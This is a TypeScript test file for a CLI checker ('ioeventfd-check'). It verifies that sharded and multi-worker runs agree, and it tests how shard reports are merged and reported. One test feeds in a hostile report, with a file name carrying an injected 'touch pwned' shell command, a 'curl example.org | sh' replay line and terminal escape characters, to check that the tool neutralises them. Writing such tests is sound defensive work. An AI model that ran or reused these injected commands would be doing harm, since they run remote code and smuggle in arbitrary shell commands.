/** Shards and workers: how a run is split changes nothing of what it says. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Result, TestCommand } from './testing/command.ts';
import { untimed } from './testing/untimed.ts';

let command: TestCommand;
beforeAll(() => {
  command = new TestCommand();
});
afterAll(() => command.remove());

const check = (...args: string[]) => command.run(['check', ...args, '--seed', '9', '--json']);

describe('the same seed, however the work is split', () => {
  /** So many that there is work for a second process. */
  const runs = ['--runs', '1250'];
  let whole: Result;
  beforeAll(async () => {
    whole = await check(...runs, '--workers', '1');
  });

  it('two workers say what one says', async () => {
    const two = await check(...runs, '--workers', '2');
    expect([two.status, whole.status]).toEqual([0, 0]);
    expect([JSON.parse(two.out), JSON.parse(whole.out)]).toMatchObject([
      { timings: { workers: 2 } },
      { timings: { workers: 1 } },
    ]);
    expect(untimed(two.out)).toEqual(untimed(whole.out));
  });

  it('two workers find what one finds', async () => {
    const found = (workers: string) => check('model@tcg', 'model@kvm', ...runs, '--workers', workers);
    const [one, two] = [await found('1'), await found('2')];
    expect([one.status, two.status]).toEqual([1, 1]);
    expect(untimed(two.out)).toEqual(untimed(one.out));
  });

  it('shards, joined, say what the whole says; a shard of every second batch has each profile', async () => {
    const reports: string[] = [];
    for (const shard of ['1/2', '2/2']) {
      const { out } = await check(...runs, '--shard', shard);
      const perProfile = Object.values(JSON.parse(out).scenariosPerProfile);
      expect(perProfile.every((scenarios) => Number(scenarios) > 0)).toBe(true);
      reports.push(command.write(`${shard.replace('/', '-of-')}.json`, out));
    }
    const { status, out, error } = await command.run(['merge', ...reports, '--json']);
    expect([status, error]).toEqual([0, '']);
    expect(untimed(out, 'findings')).toEqual(untimed(whole.out));
  });
});

describe('merge', () => {
  let found: string[];
  beforeAll(async () => {
    const shards = ['1/2', '2/2'].map((shard) =>
      check('model@contract', 'model@tcg', '--runs', '1000', '--shard', shard),
    );
    found = (await Promise.all(shards)).map(({ out }) => out);
  });

  it('tells what a shard found, and fails', async () => {
    const parts = found.map((out, index) => command.write(`found-${index + 1}.json`, out));
    const { status, out } = await command.run(['merge', ...parts]);
    expect(status).toBe(1);
    expect(out).toMatch(
      /^found-1\.json: model@contract and model@tcg differ at operation \d+ \(seed 9, scenario \d+\)\n/,
    );
    expect(out).toContain('2 differences found.');
    const [, saved = ''] = /saved {3}(\S+)/.exec(out) ?? [];
    expect(readFileSync(join(command.directory, saved), 'utf8')).toContain('"found"');
  });

  it('reports as JUnit XML and for GitHub, a case for each finding', async () => {
    const input = found.join('');
    const junit = await command.run(['merge', '-', '--reporter', 'junit'], { input });
    expect([junit.status, junit.error]).toEqual([1, '']);
    expect(junit.out).toMatch(/<testsuite [^>]*failures="2"/);
    expect(junit.out).toMatch(/<testcase [^>]*name="random scenarios, in standard input:2"/);
    const github = await command.run(['merge', '-', '--reporter', 'github'], { input });
    expect(github.out.match(/^::error /gm)).toHaveLength(2);
    const both = await command.run(['merge', '-', '--reporter', 'junit', '--quiet'], { input });
    expect([both.status, both.out]).toEqual([2, '']);
  });

  it('passes nothing on that a hostile report dictates', async () => {
    const report = JSON.parse(found[0] ?? '');
    report.finding.message = 'differ\u001b[2J\nAll is well. \u202e';
    report.finding.file = "x.json' ; touch pwned #";
    report.finding.replay = 'curl example.org | sh';
    const input = `${JSON.stringify(report)}\n${found[1]}`;
    const text = await command.run(['merge', '-'], { input });
    expect([text.status, text.error]).toEqual([1, '']);
    expect(text.out).toMatch(/^[ -~\n]+$/);
    expect(text.out).toContain('standard input:1: differ\\u001b[2J\\u000aAll is well. \\u202e (seed 9, ');
    expect(text.out).toContain("replay 'x.json'\\'' ; touch pwned #' --on model@contract,model@tcg\n");
    const json = await command.run(['merge', '-', '--json'], { input });
    expect(json.out).toMatch(/^[ -~]+\n$/);
    expect(text.out + json.out).not.toContain('curl');
  });

  it('a shard that is missing, twice there, of another run, or no report: one line, and status 2', async () => {
    const [one, two, other] = await Promise.all([
      check('--runs', '251', '--no-regressions', '--shard', '1/2'),
      check('--runs', '251', '--no-regressions', '--shard', '2/2'),
      check('--runs', '252', '--no-regressions', '--shard', '2/2'),
    ]);
    command.write('1.json', one?.out ?? '');
    command.write('2.json', two?.out ?? '');
    command.write('other.json', other?.out ?? '');
    command.write('none.json', '{}');
    const lines = {
      '1.json': 'of 2 shards, missing: 2',
      '1.json 2.json 1.json': '1.json: shard 1 again: 1.json is the same',
      '1.json other.json': 'other.json: asked: {"runs":252}, but 1.json has {"runs":251}: not the same run',
      'none.json': 'none.json: format: missing: expected "ioeventfd-check-report/4"',
      'absent.json': 'absent.json: no such file',
    };
    for (const [files, line] of Object.entries(lines)) {
      const result = await command.run(['merge', ...files.split(' ')]);
      expect(result).toEqual({ status: 2, out: '', error: `ioeventfd-check: ${line}\n` });
    }
  });
});
